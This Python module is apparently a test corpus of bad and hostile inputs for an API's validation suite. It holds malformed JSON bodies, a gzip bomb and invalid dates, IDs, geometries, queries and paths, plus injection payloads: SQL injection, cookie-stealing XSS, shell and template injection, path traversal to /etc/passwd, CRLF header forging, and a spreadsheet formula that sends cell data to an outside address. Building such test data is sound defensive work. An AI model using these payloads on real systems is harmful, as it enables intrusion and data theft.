"""The bad-input corpus of the safeguarding page, as data: what every reader of input must refuse or carry unharmed.

Nothing here knows an address or a table. Suites put these values where their own inputs go.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Mapping
from types import MappingProxyType
from typing import Any, NamedTuple

CANARY = "zq-canary-7f3a"
"""Stands in values that must be refused, so that an echo of them can be found."""

# --- whole bodies ---------------------------------------------------------------------------------------------------


class RawBody(NamedTuple):
    """Bytes sent as a body, with the headers that go with them, and the statuses that may answer."""

    name: str
    data: bytes
    statuses: frozenset[int]
    headers: Mapping[str, str | None] = MappingProxyType({"Content-Type": "application/json"})


def _text(name: str, text: str, *statuses: int, **headers: str | None) -> RawBody:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return RawBody(name, text.encode(), frozenset(statuses or {400}), {"Content-Type": "application/json", **named})


DEPTH = 100_000
RAW_BODIES: tuple[RawBody, ...] = (
    _text("empty", ""),
    _text("blank", " \n\t"),
    _text("null", "null", 422),
    _text("true", "true", 422),
    _text("a number", "1", 422),
    _text("a string", '"text"', 422),
    _text("an empty list", "[]", 422),
    _text("a list of an object", "[{}]", 422),
    _text("half an object", '{"reason": "'),
    _text("single quotes", "{'reason': 'x'}"),
    _text("a comment", '{} // "x"'),
    _text("two documents", "{}{}"),
    _text("a trailing comma", '{"reason": "x",}'),
    _text("NaN", '{"x": NaN}'),
    _text("Infinity", '{"x": Infinity}'),
    _text("minus Infinity", '{"x": -Infinity}'),
    _text("1e400", '{"x": 1e400}'),
    _text("a number of 5,000 digits", '{"x": ' + "9" * 5_000 + "}"),
    _text("100,000 lists deep", "[" * DEPTH + "]" * DEPTH),
    _text("100,000 lists opened", "[" * DEPTH),
    _text("30,000 objects deep", '{"a":' * 30_000 + "1" + "}" * 30_000),
    _text("40 lists deep", '{"x": ' + "[" * 40 + "]" * 40 + "}"),
    _text("duplicate names", '{"reason": "x", "reason": "y"}'),
    _text("duplicate names inside", '{"x": [{"a": 1, "a": 1}]}'),
    _text("NUL in a value", '{"reason": "a\\u0000b"}'),
    _text("NUL in a name", '{"a\\u0000b": 1}'),
    _text("a raw NUL", '{"reason": "a\x00b"}'),
    _text("half a surrogate pair", '{"reason": "\\ud83d"}'),
    _text("the other half", '{"reason": "\\udc00"}'),
    _text("half a surrogate pair as a name", '{"\\ud83d": 1}'),
    _text("a raw line break in a string", '{"reason": "a\nb"}'),
    RawBody("invalid UTF-8", b'{"reason": "\xff\xfe"}', frozenset({400})),
    RawBody("overlong UTF-8", b'{"reason": "\xc0\xaf"}', frozenset({400})),
    RawBody("a surrogate in UTF-8", b'{"reason": "\xed\xa0\x80"}', frozenset({400})),
    RawBody("UTF-16", '{"reason": "x"}'.encode("utf-16"), frozenset({400})),
    RawBody("UTF-32", '{"reason": "x"}'.encode("utf-32"), frozenset({400})),
    RawBody("a byte order mark", b"\xef\xbb\xbf{}", frozenset({400})),
    _text("no content type", "{}", 415, Content_Type=None),
    _text("text/plain", "{}", 415, Content_Type="text/plain"),
    _text("a form", "reason=x", 415, Content_Type="application/x-www-form-urlencoded"),
    _text("an upload", "--x--", 415, Content_Type="multipart/form-data; boundary=x"),
    _text("another JSON", "{}", 415, Content_Type="application/json5"),
    _text("UTF-16 by its charset", "{}", 415, Content_Type="application/json; charset=utf-16"),
    _text("Latin-1 by its charset", "{}", 415, Content_Type="application/json; charset=iso-8859-1"),
    _text("an unknown charset", "{}", 415, Content_Type="application/json; charset=klingon"),
    _text("a broken content type", "{}", 415, Content_Type=";;;="),
    RawBody(
        "gzip",
        gzip.compress(b'{"reason": "x"}'),
        frozenset({415}),
        {"Content-Type": "application/json", "Content-Encoding": "gzip"},
    ),
    RawBody(
        "a gzip bomb",
        gzip.compress(b'{"reason": "' + b"x" * 50_000_000 + b'"}', 1),
        frozenset({413, 415}),
        {"Content-Type": "application/json", "Content-Encoding": "gzip"},
    ),
    _text("deflate", "{}", 415, Content_Encoding="deflate"),
    _text("a megabyte of text", json.dumps({"reason": "x" * 1_000_000}), 413),
    _text("a megabyte of wrong values", json.dumps({"members": [0] * 400_000}), 413),
    _text("a hundred thousand names", json.dumps({f"n{i}": 0 for i in range(15_000)}), 422),
)

# --- values in a field ----------------------------------------------------------------------------------------------

SAMPLES: dict[str, tuple[Any, ...]] = {
    "string": (CANARY, "1", "true", "null", ""),
    "integer": (1, 0, -1),
    "number": (1.5, 1e308, 5e-324),
    "boolean": (True, False),
    "null": (None,),
    "array": ([], [[]], [CANARY], [None]),
    "object": ({}, {CANARY: CANARY}, {"$ne": ""}),
}
"""JSON type -> values of it: each is wrong wherever that type is not allowed ("1" for 1, true for 1, 1 for true...)."""

WILD_NUMBERS: tuple[int, ...] = (2**31, 2**63, -(2**63), 2**64, 10**400, -(10**400))
"""Beyond every bound that Harbour sets, every column and, the last two, every double."""

BAD_DATES: tuple[str, ...] = (
    "0000-00-00",
    "0001-01-01",
    "1899-12-31",
    "9999-12-31",
    "2101-01-01",
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "2026-1-1",
    "20260101",
    "2026-W01-1",
    "2026-001",
    "2026-01-01T00:00:00Z",
    "2026-01-01T00:00:00+99:99",
    "2026-03-29T01:30:00",
    " 2026-01-01",
    "2026-01-01\n",
    "01/02/2026",
    "+026-01-01",
    "２０２６-01-01",
    "tomorrow",
)

BAD_IDS: tuple[str, ...] = (
    "0",
    "1 OR 1=1",
    "3f8e2c1a-5b7d-4e9f-8a6b-0c1d2e3f4a5",
    "3f8e2c1a5b7d4e9f8a6b0c1d2e3f4a5b",
    "{3f8e2c1a-5b7d-4e9f-8a6b-0c1d2e3f4a5b}",
    "urn:uuid:3f8e2c1a-5b7d-4e9f-8a6b-0c1d2e3f4a5b",
    "3f8e2c1a-5b7d-4e9f-8a6b-0c1d2e3f4a5b\n",
    "../../etc/passwd",
    "%00",
)

BAD_POSTCODES: tuple[str, ...] = (
    "",
    " ",
    "SS1",
    "SS1 1",
    "ZZ99 9ZZ",
    "SS1 1A1",
    "12345",
    "SW1A 1AA; --",
    CANARY[:12],
    "ＳＳ１ １ＡＡ",
)

HUGE_TEXT = "x" * 100_001
"""Longer than any text that Harbour takes, and not too long for a body."""

HOSTILE_TEXTS: tuple[str, ...] = (
    "Robert'); DROP TABLE household;--",
    "' OR '1'='1",
    "%' UNION SELECT key FROM api_key --",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "%s%s%n%x{0.__class__}%(key)s",
    "$(reboot)`reboot`; reboot | reboot",
    "../../../../etc/passwd",
    '=HYPERLINK("http://198.51.100.1/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\x00\\u0000\\ud800",
    "null",
    "true",
    "NaN",
    "-0",
    "1e400",
    "مریم الآزمون",
    "עברית \u202egnirts desrever\u202c",
    "A\u0301\u0300\u0302\u0303e\u0308\u0323\u0330",
    "\u1112\u1161\u11ab\ufeffzero\u200bwidth\u200d",
    "👩‍👧‍👦🇬🇧",
    "ﷺ" * 5,
    "İıſK",
    '{"type": "/problems/not-found"}',
    "&lt;&#39;&quot;&amp;",
)
"""Text that means something to somebody else. On one line, so every field may keep it, unchanged, if it is short enough."""

BREAKING_TEXTS: tuple[str, ...] = (
    "one\r\nSet-Cookie: key=1",
    "one\nERROR forged=1",
    "one\rtwo",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x9b31mred",
    "bell\x07back\x08space",
    "next\x85line",
    "line\u2028separator\u2029",
    "=1+1\t=2+2",
)
"""Text that breaks a line or a terminal: refused where a field is one line, kept unchanged where it is not."""

# --- places ---------------------------------------------------------------------------------------------------------

POINT = {"latitude": 51.6, "longitude": 0.6}


def circle(centre: Any = None, radius: Any = 5000, **more: Any) -> dict[str, Any]:
    """Return a circle, good unless told otherwise."""
    return {"type": "circle", "centre": dict(POINT) if centre is None else centre, "radius_metres": radius, **more}


def polygon(*positions: Any, **more: Any) -> dict[str, Any]:
    """Return a polygon of one ring."""
    return {"type": "polygon", "geojson": {"type": "Polygon", "coordinates": [list(positions)], **more}}


def corridor(*positions: Any, width: Any = 500) -> dict[str, Any]:
    """Return a corridor along a line."""
    line = {"type": "LineString", "coordinates": list(positions)}
    return {"type": "corridor", "line": line, "half_width_metres": width}


_A, _B, _C, _D = [0.5, 51.5], [0.7, 51.5], [0.7, 51.7], [0.5, 51.7]

BAD_GEOMETRIES: tuple[tuple[str, Any], ...] = (
    ("no type", {}),
    ("a type of nothing", {"type": None}),
    ("an unknown type", {"type": CANARY}),
    ("a list for a type", {"type": ["circle"]}),
    ("a circle of nothing", {"type": "circle"}),
    ("radius -1", circle(radius=-1)),
    ("radius 0", circle(radius=0)),
    ("radius -0.0", circle(radius=-0.0)),
    ("radius 99", circle(radius=99)),
    ("radius 1e9", circle(radius=1e9)),
    ("radius 10^400", circle(radius=10**400)),
    ("radius as text", circle(radius="5000")),
    ("radius true", circle(radius=True)),
    ("a key too many", circle(colour=CANARY)),
    ("centre as a list", circle([51.6, 0.6])),
    ("centre empty", circle({})),
    ("half a centre", circle({"latitude": 51.6})),
    ("two kinds of centre", circle({**POINT, "postcode": "SS1 1AA"})),
    ("latitude as text", circle({"latitude": "51.6", "longitude": 0.6})),
    ("the North Sea, far out", circle({"latitude": 56.0, "longitude": 3.5})),
    ("Dublin by its postcode", circle({"postcode": "D02 X285"})),
    ("Kerry", circle({"latitude": 52.05, "longitude": -9.5})),
    ("the pole", circle({"latitude": 90, "longitude": 0})),
    ("nowhere at all", circle({"latitude": 0, "longitude": 0})),
    ("swapped", circle({"latitude": 0.6, "longitude": 51.6})),
    ("beyond the globe", circle({"latitude": 91, "longitude": 181})),
    ("10^400 north", circle({"latitude": 10**400, "longitude": 0.6})),
    ("uncertainty -1", circle({**POINT, "uncertainty_metres": -1})),
    ("an address of nothing", circle({"address": " "})),
    ("an address of lines", circle({"address": "a\nb"})),
    ("a postcode of nothing", circle({"postcode": ""})),
    ("half a postcode", circle({"postcode": "SS1"})),
    ("no such postcode", circle({"postcode": "ZZ99 9ZZ"})),
    ("no districts", {"type": "postcode_districts", "districts": []}),
    ("districts as text", {"type": "postcode_districts", "districts": "SS1"}),
    ("an unknown district", {"type": "postcode_districts", "districts": ["SS1", CANARY]}),
    ("a whole postcode as a district", {"type": "postcode_districts", "districts": ["SS1 1AA"]}),
    ("101 districts", {"type": "postcode_districts", "districts": ["SS1"] * 101}),
    ("an unknown authority", {"type": "local_authority", "code": "E99999999"}),
    ("an authority by number", {"type": "local_authority", "code": 6000033}),
    ("an Irish authority", {"type": "local_authority", "code": "IE061"}),
    ("an open polygon", polygon(_A, _B, _C, _D)),
    ("a polygon that crosses itself", polygon(_A, _C, _B, _D, _A)),
    ("a polygon of two points", polygon(_A, _B, _A)),
    ("a polygon without area", polygon(_A, _B, _C, _B, _A)),
    ("a polygon at one point", polygon(_A, _A, _A, _A)),
    ("a polygon with heights", polygon([*_A, 1], [*_B, 1], [*_C, 1], [*_A, 1])),
    ("a polygon in text", polygon("a", "b", "c", "a")),
    ("a swapped polygon", polygon(*[[y, x] for x, y in (_A, _B, _C, _D, _A)])),
    ("a polygon of 10,000 corners", polygon(*([_A, _B, _C, _D] * 2_500), _A)),
    (
        "a polygon with a hole",
        {"type": "polygon", "geojson": {"type": "Polygon", "coordinates": [[_A, _B, _C, _D, _A]] * 2}},
    ),
    ("many polygons", {"type": "polygon", "geojson": {"type": "MultiPolygon", "coordinates": [[[_A, _B, _C, _A]]]}}),
    ("a polygon with a name", polygon(_A, _B, _C, _A, crs=CANARY)),
    ("a polygon of nothing", {"type": "polygon", "geojson": None}),
    ("a corridor of one point", corridor(_A)),
    ("a corridor of one point twice", corridor(_A, _A)),
    ("a corridor 0 wide", corridor(_A, _B, width=0)),
    ("a corridor 1e9 wide", corridor(_A, _B, width=1e9)),
    ("a corridor to Ireland", corridor(_A, [-9.5, 52.05])),
)

# --- queries, cursors, versions, headers, paths ----------------------------------------------------------------------

BAD_LIST_QUERIES: tuple[str, ...] = (
    "limit=0",
    "limit=-1",
    "limit=201",
    "limit=1000000000",
    "limit=" + "9" * 400,
    "limit=1.0",
    "limit=1e2",
    "limit=0x10",
    "limit=true",
    "limit=",
    "limit=%31%00",
    "limit=%EF%BC%91",
    "limit=1&limit=1",
    "limit=1&limit=2",
    "limit[]=1",
    f"{CANARY}=1",
    "Limit=1",
    "cursor=",
    f"cursor={CANARY}",
    "cursor=%00",
    "cursor=%ff%fe",
    "cursor=../../etc/passwd",
    "cursor=" + "A" * 4_000,
    "cursor=a&cursor=b",
    "cursor=IjAi.AAAAAAAAAAAAAAAAAAAAAAAAAAA",
)

STALE_VERSIONS: tuple[str, ...] = (
    "*",
    '"*"',
    'W/"{etag}"',
    'w/"{etag}"',
    '"{etag}x"',
    '"{upper}"',
    '""',
    '"',
    "garbage",
    '"0"',
    '"00000000000000000000000000000000", W/"{etag}"',
    '"' + "x" * 4_000 + '"',
    "\u00ff\u00fe",
)
"""If-Match headers that are never the present version; `{etag}` is its token, `{upper}` the same in capitals."""

HUGE_HEADER = "x" * 65_536

BAD_PATHS: tuple[str, ...] = (
    "/",
    "//",
    "/units/",
    "//units",
    "/units//",
    "/UNITS",
    "/units/.",
    "/units/..",
    "/../units",
    "/./units",
    "/units/%2e%2e/me",
    "/%75nits",
    "/units%2F{id}",
    "/units/%2F{id}",
    "/units\\{id}",
    "/units/%5C{id}",
    "/units/{id}/",
    "/units/{id}%00",
    "/units/{id}%0d%0aX-Forged:1",
    "/units/{id};a=b",
    "/units/{id}.json",
    "/units/{braced}",
    "/units/1",
    "/units/-1",
    "/units/null",
    "/units/%F0%9F%8F%A0",
    "/units/%ff%fe",
    "/units/" + "a" * 3_000,
)
"""Paths below the prefix that are no address of ours; `{id}` is the id of a unit that the caller may see."""
